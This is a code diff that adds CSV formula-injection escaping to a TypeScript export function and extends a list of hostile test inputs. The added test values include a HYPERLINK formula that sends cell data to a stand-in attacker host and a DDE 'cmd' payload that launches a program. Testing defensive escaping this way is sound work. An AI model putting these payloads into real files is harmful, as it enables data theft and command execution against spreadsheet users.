@@ -17,7 +17,9 @@ function referenceExport(db: Db, format: ExportFormat, filter: DecisionFilter, r
   const csvField = (v: string | number | null) => {
     if (v === null) return '';
     const s = typeof v === 'number' ? String(v) : v;
-    return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
+    // OWASP CSV injection: text that a spreadsheet would run as a formula (or that starts with the apostrophe itself).
+    if (typeof v === 'string' && /^[=+\-@\t\r']/.test(s)) return `"'${s.replace(/"/g, '""')}"`;
+    return /[",;\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
   };
   const redactRow = (row: ExportRow): ExportRow => {
     const known = [row.requester_name, row.requester_email].filter((x): x is string => typeof x === 'string' && x.length > 2);
@@ -65,6 +67,20 @@ const NASTY = [
   '\u0000nul and \u0007bell',
   '\\ backslash \\\\',
   '\u2028line separator\u2029paragraph',
+  // Formulas a spreadsheet would run (CSV injection), and values that start with the apostrophe that neutralises them.
+  '=1+1 @SUM(A1) order not in ERP',
+  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+  '+cmd|\' /C calc\'!A0',
+  '-2+3',
+  '-42.50',
+  '@SUM(A1:A9)',
+  '\tTab first',
+  '\rCR first',
+  "'already quoted",
+  "'=kept",
+  "''",
+  "'",
+  'a;b;=c',
 ];
 
 describe('export bytes', () => {
